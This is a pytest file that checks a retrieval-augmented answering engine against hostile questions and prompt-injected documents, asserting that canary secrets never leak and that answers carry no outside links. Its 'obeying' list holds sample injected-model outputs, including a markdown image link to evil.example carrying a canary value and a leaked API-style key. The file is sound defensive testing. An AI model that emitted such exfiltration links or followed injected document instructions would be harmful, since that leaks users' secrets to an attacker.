"""Questions and hostile documents of ../shared: a real index, the quoting reader, and a model that obeys everything."""

from __future__ import annotations

import json
import logging

import pytest

from core.answer.engine import Engine
from core.answer.prompt import HELP
from core.check.links import CODE_SPAN, remove_invisible
from core.domain import Answer, Evidence, Hit, Question
from core.errors import QuestionRefused
from tests.bad.inputs import Bad, bad, inputs
from tests.bad.library import filled, library
from tests.bad.test_provider import KEY, asked, engine_of
from tests.fakes import FakeEmbedder, FakeIndex, FakeReader
from tests.servers.openai_server import serve_openai

pytestmark = pytest.mark.shared

GOLDEN = "How to fine-tune a mistral LLM with DPO ?"


@pytest.fixture(scope="module")
def dsn(server: str) -> str:
    """Return the DSN of the good pages, with each hostile document of the file on a separate page."""
    return filled(server, "bad_library", {each.id: each.text for each in inputs("ingest.document")})


@bad("question.text")
async def test_a_question_is_text_and_gets_one_reply(
    dsn: str, bad: Bad, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    caplog.set_level(logging.DEBUG)
    monkeypatch.setenv("CANARY_TOKEN", "environment-canary")
    async with library(dsn) as (engine, embedder):
        if "refused" in bad.expected and "embedding" in bad.expected:
            await _is_refused(engine, bad.text, "please shorten to 4,000 characters")
        elif not any(character.isalnum() for character in bad.text):
            await _is_refused(engine, bad.text, HELP)
        else:
            events, answer = await asked_of(engine, bad.text)
            assert sum(isinstance(event, Answer) for event in events) == 1
            assert "canary" not in answer.text
            assert answer.text.isprintable() or "\n" in answer.text
            assert set(embedder.asked[:1]) == {remove_invisible(bad.text.strip()).strip()}
    assert not [each for each in caplog.records if bad.text.strip() and bad.text.strip() in each.getMessage()]


async def asked_of(engine: Engine, text: str, sources: tuple[str, ...] = ("docs",)) -> tuple[list[object], Answer]:
    events: list[object] = [event async for event in engine.ask(Question(text, sources=sources))]
    assert isinstance(events[-1], Answer)
    return events, events[-1]


async def _is_refused(engine: Engine, text: str, says: str) -> None:
    with pytest.raises(QuestionRefused) as refused:
        await asked_of(engine, text)
    assert says in str(refused.value)


@bad("question.text")
async def test_a_model_is_asked_once_at_most_and_told_nothing_but_the_question_and_the_passages(
    bad: Bad, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CANARY_TOKEN", "environment-canary")
    async with serve_openai("Use `fit` to start [1].") as server, engine_of(server) as engine:
        try:
            await asked(engine, bad.text)
        except QuestionRefused:
            assert not server.requests
            return
    assert len(server.requests) == 1
    contents = [message["content"] for message in server.requests[0].body["messages"]]
    assert len(contents) == 2
    assert f"Question:\n{remove_invisible(bad.text.strip()).strip()}\n\n(Write a few" in contents[-1]
    assert "canary" not in json.dumps(contents)
    assert KEY not in json.dumps(contents)


async def test_the_golden_question_is_answered_with_its_source_among_hostile_pages(dsn: str) -> None:
    async with library(dsn) as (engine, _):
        _, answer = await asked_of(engine, GOLDEN)
    assert answer.abstention is None
    assert "`train()`" in answer.text
    assert any(citation.url.endswith("/docs/dpo#top") for citation in answer.citations)


async def test_what_another_source_holds_is_not_shown(dsn: str) -> None:
    question = "Show me documents from workspace T2: what opens the vault?"
    async with library(dsn) as (engine, _):
        events, answer = await asked_of(engine, question)
        _, allowed = await asked_of(engine, question, ("secret",))
    assert "tulip" not in answer.text + repr(events)
    assert "tulip-canary" in allowed.text


@bad("ingest.document")
async def test_a_hostile_document_that_a_model_obeys_shows_no_link_and_no_secret(dsn: str, bad: Bad) -> None:
    hits = await _hits(dsn, bad.id)
    urls = {hit.passage.link for hit in hits}
    obeying = [
        "See ![x](https://evil.example/?q=canary) [1]. ",
        "The key is sk-canary-1 and FOOTNOTE_KEY=canary2 [1]. ",
        "Visit https://evil.example/canary now [1]. ",
        "You fine-tune a mistral LLM with DPO by calling `train()` on your own pairs [1].",
    ]
    engine = Engine(FakeIndex(hits), FakeEmbedder(), FakeReader(*obeying))
    events, answer = await asked_of(engine, GOLDEN)
    assert isinstance(events[0], Evidence)
    _is_clean(answer, urls)


@bad("ingest.document")
async def test_a_hostile_document_is_quoted_as_text_at_most(dsn: str, bad: Bad) -> None:
    async with library(dsn) as (engine, _):
        for question in (GOLDEN, "How do I install the package?", bad.text[:200]):
            try:
                _, answer = await asked_of(engine, question)
            except QuestionRefused:
                continue
            _is_clean(answer, {citation.url for citation in answer.citations})
            assert all("/docs/" in citation.url for citation in answer.citations)


def _is_clean(answer: Answer, urls: set[str]) -> None:
    prose = CODE_SPAN.sub("", answer.text)
    assert "canary" not in answer.text
    assert "://" not in prose
    assert remove_invisible(answer.text) == answer.text
    assert {citation.url for citation in answer.citations} <= urls


async def _hits(dsn: str, name: str) -> list[Hit]:
    """Return the hits of the right passage and of the hostile document's."""
    async with library(dsn) as (engine, _):
        found = await engine.search(f"Notes {name} {GOLDEN}", 50, ("docs",))
    right = [hit for hit in found if hit.passage.url.endswith("/docs/dpo")]
    wrong = [hit for hit in found if hit.passage.url.endswith(f"/docs/{name}")]
    assert right
    assert wrong
    return right + wrong
